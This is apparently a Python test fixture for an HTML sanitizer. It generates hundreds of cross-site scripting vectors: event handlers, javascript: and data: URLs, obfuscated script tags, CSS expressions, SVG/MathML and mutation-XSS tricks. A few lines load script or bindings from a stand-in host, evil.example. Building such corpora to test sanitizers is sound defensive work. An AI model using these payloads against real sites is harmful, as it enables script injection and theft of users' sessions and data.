"""Markup that tries to run a script, by families; every piece calls `hit()` where it succeeds (SEC-IN-03)."""

# ruff: noqa: E501, SIM905 - lists of pieces: read by the row, not by the line
from __future__ import annotations

import itertools

HANDLERS = (
    "onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy "
    "onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur "
    "onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose oncontextmenu oncopy oncuechange oncut "
    "ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onend "
    "onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange "
    "oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlostpointercapture "
    "onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide "
    "onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave "
    "onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat "
    "onreset onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking "
    "onselect onselectionchange onselectstart onshow onstalled onstart onsubmit onsuspend ontimeupdate ontoggle "
    "ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun "
    "ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwheel"
).split()
TAGS = (
    "a abbr article audio b body button canvas custom-tag details dialog div em embed fieldset font form frameset h1 h2 hr "
    "html i iframe image img input isindex keygen label li link listing main map marquee math menu meta meter nav object ol "
    "optgroup option output p picture portal pre progress q s section select slot small source span strong style sub "
    "summary sup svg table tbody td template textarea th time title tr track u ul var video xmp"
).split()
URLS = (
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "java\tscript:hit()", "java\nscript:hit()",
    "java\rscript:hit()", "java\x00script:hit()", "\x01javascript:hit()", "\x1bjavascript:hit()", "javascript\t:hit()",
    "javascript&colon;hit()", "&#106;avascript:hit()", "&#x6a;avascript:hit()", "&#0000106avascript:hit()",
    "java&Tab;script:hit()", "java&NewLine;script:hit()", "javascript:%68it()", "javascript://%0ahit()",
    "javascript:/*--></title></style></textarea></script>*/hit()", "vbscript:hit()", "livescript:hit()", "mocha:hit()",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>", "blob:hit()", "filesystem:hit()",
    "feed:javascript:hit()", "view-source:javascript:hit()", "ｊavascript:hit()", "\u2028javascript:hit()",
    "//evil.example/x", "\\\\evil.example\\x", "jar:javascript:hit()",
)  # fmt: skip
PLACES = (
    '<a href="{}">x</a>', "<a href={}>x</a>", '<img src="{}">', '<iframe src="{}"></iframe>', '<object data="{}"></object>',
    '<embed src="{}">', '<form action="{}"><input type=submit></form>', '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>', '<base href="{}">',
    '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<td background="{}">x</td>',
    '<blockquote cite="{}">x</blockquote>', '<video poster="{}"></video>', '<div style="background:url({})">x</div>',
)  # fmt: skip
SCRIPTS = (
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script\t>hit()</script >", "<script/x>hit()</script>",
    "<script src=//evil.example/x.js></script>", "<scr<script>ipt>hit()</scr</script>ipt>", "<<script>hit();//<</script>",
    "<script>hit()", "<script type=module>hit()</script>", "<script\x0c>hit()</script>", "<script\x00>hit()</script>",
    "<scrıpt>hit()</scrıpt>", "<ＳＣＲＩＰＴ>hit()</ＳＣＲＩＰＴ>", "</script><script>hit()</script>", "<script><!--\nhit()//--></script>",
    "<script>/*</script>*/hit()</script>", "<svg><script>hit()</script></svg>", "<svg><script href=data:,hit() /></svg>",
    "<svg><script>&#104;it()</script>", "<math><script>hit()</script></math>", "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<![CDATA[<script>hit()</script>]]>", "<?xml version='1.0'?><script>hit()</script>", "<!DOCTYPE x [<!ENTITY y '<script>hit()</script>'>]>&y;",
    "%3Cscript%3Ehit()%3C/script%3E", "&lt;script&gt;hit()&lt;/script&gt;", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\ufeff<script>hit()</script>", "<script>hit()</script\n>", "<noscript><script>hit()</script></noscript>",
    "<template><script>hit()</script></template>", "<b <script>hit()</script>0", "<p title='<script>'>hit()</script>",
)  # fmt: skip
STYLES = (
    "<style>@import 'javascript:hit()';</style>", "<style>*{background:url(javascript:hit())}</style>",
    "<style>p{-moz-binding:url(//evil.example/x#x)}</style>", "<p style='width:expression(hit())'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>", "<p style='xss:expr/*x*/ession(hit())'>x</p>",
    "<p style='\\65xpression(hit())'>x</p>", "<style onload=hit()></style>", "<link rel=stylesheet onload=hit() href=x>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=hit()>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'><a href=javascript:hit()>x</a></p>",
    "<style><img src='</style><img src=x onerror=hit()>'>", "<p style=\"background-image:url('data:image/svg+xml,<svg onload=hit()>')\">x</p>",
)  # fmt: skip
DRAWINGS = (
    "<svg onload=hit()>", "<svg/onload=hit()>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributeName=x to=y>", "<svg><animate attributeName=href values=javascript:hit() /><a id=x>x</a></svg>",
    "<svg><a><animate attributeName=href to=javascript:hit() begin=0s /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='hit()'/></svg>#x\"></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>",
    "<svg><image href=x onerror=hit()></svg>", "<svg><discard onbegin=hit()>", "<svg><desc><img src=x onerror=hit()></desc></svg>",
    "<svg><title><img src=x onerror=hit()></title></svg>", "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>", "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>", "<iframe srcdoc='<img src=x onerror=parent.hit()>'></iframe>",
    "<svg><animateTransform onbegin=hit()>", "<svg><handler type=text/javascript ev:event=load>hit()</handler></svg>",
)  # fmt: skip
MUTATIONS = (
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\"></noscript>", "<svg></p><style><a id=\"</style><img src=1 onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<textarea><img title=\"</textarea><img src=x onerror=hit()>\">",
    "<title><img title=\"</title><img src=x onerror=hit()>\">", "<xmp><p title=\"</xmp><img src=x onerror=hit()>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=hit()>\">", "<noembed><p title=\"</noembed><img src=x onerror=hit()>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=hit()>\">", "<template><p title=\"</template><img src=x onerror=hit()>\">",
    "<plaintext><img src=x onerror=hit()>", "<listing>&lt;img src=x onerror=hit()&gt;</listing>", "<!--><img src=x onerror=hit()>-->",
    "<!--!><img src=x onerror=hit()>-->", "<!-- --!><img src=x onerror=hit()>", "<comment><img src='</comment><img src=x onerror=hit()//'>",
    "<svg><p><style><!--</style><img src=x onerror=hit()>--></style>", "<table><td><svg><style></td></table><img src=x onerror=hit()>",
    "<select><style></select><img src=x onerror=hit()>", "<math><p></math><img src=x onerror=hit()>", "<p><svg><desc><style></p><img src=x onerror=hit()>",
    "<a><svg><desc><noscript></a><img src=x onerror=hit()>", "<b><p title='`><img src=x onerror=hit()>'>", "<p title=`><img src=x onerror=hit()>`>",
    "<img alt=\"``onerror=hit()\">", "<listing><![CDATA[</listing><img src=x onerror=hit()>]]>", "<svg><![CDATA[</svg><img src=x onerror=hit()>]]>",
    "<math><!--</math><img src=x onerror=hit()>-->", "<dfn><svg><p></dfn></svg><style><img src=x onerror=hit()></style>",
)  # fmt: skip
FORMS_OF_ATTRIBUTES = (
    "<img src=x onerror=hit()>", "<img/src=x/onerror=hit()>", "<img src=x\tonerror\n=\rhit()>", "<img src='x'onerror='hit()'>",
    '<img src="x"onerror="hit()">', "<img src=x ONERROR=hit()>", "<img src=x OnErRoR=hit()>", "<img src=x onerror=&#104;it()>",
    "<img src=x onerror=&#x68;it&lpar;&rpar;>", "<img src=x onerror\x00=hit()>", "<img src=x on\x00error=hit()>", "<img \x0csrc=x \x0conerror=hit()>",
    "<img src=x:x onerror=hit()//", "<img src=x onerror=hit() <p", '"><img src=x onerror=hit()>', "'><img src=x onerror=hit()>",
    "<img src=x onerror=eval(atob('aGl0KCk='))>", "<img src=x onerror=window['h'+'it']()>", "<img src=x onerror=top.hit()>", "<p><img src=x onerror=hit()></p>",
    "<td colspan='1' onclick=hit()>x</td>", "<td colspan='\"><img src=x onerror=hit()>'>x</td>", "<th rowspan=javascript:hit()>x</th>", "<img src=x onerror=hit``>",
    "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>", "<details open ontoggle=hit()>", "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>", "<marquee onstart=hit()>x</marquee>", "<p id=hit name=hit>x</p>", "<form id=document><input name=cookie></form>",
    "<p class=x data-x=\"javascript:hit()\" is=x slot=x part=x>x</p>", "<a name=x id=x ping=//evil.example download target=_top>x</a>",
    "<img src=x\u00a0onerror=hit()>", "<img src=x\u3000onerror=hit()>", "<img src=x onerror\u2028=hit()>", "＜img src=x onerror=hit()＞",
    "{{constructor.constructor('hit()')()}}", "${hit()}", "<%= hit() %>", "<p v-html=\"hit()\" :x=\"hit()\" @click=\"hit()\" x-on:click=hit()>x</p>",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once, in a fixed order."""
    handlers = [f"<{tag} {name}=hit()>x" for tag, name in zip(itertools.cycle(TAGS), HANDLERS, strict=False)]
    handlers += [f"<p {name}='hit()'>x</p>" for name in HANDLERS]
    tags = [f"<{tag} src=x href=javascript:hit() onerror=hit() onload=hit() onfocus=hit() autofocus>x" for tag in TAGS]
    urls = [place.format(url) for place, url in itertools.product(PLACES, URLS)]
    return list(
        dict.fromkeys([*handlers, *tags, *urls, *SCRIPTS, *STYLES, *DRAWINGS, *MUTATIONS, *FORMS_OF_ATTRIBUTES])
    )
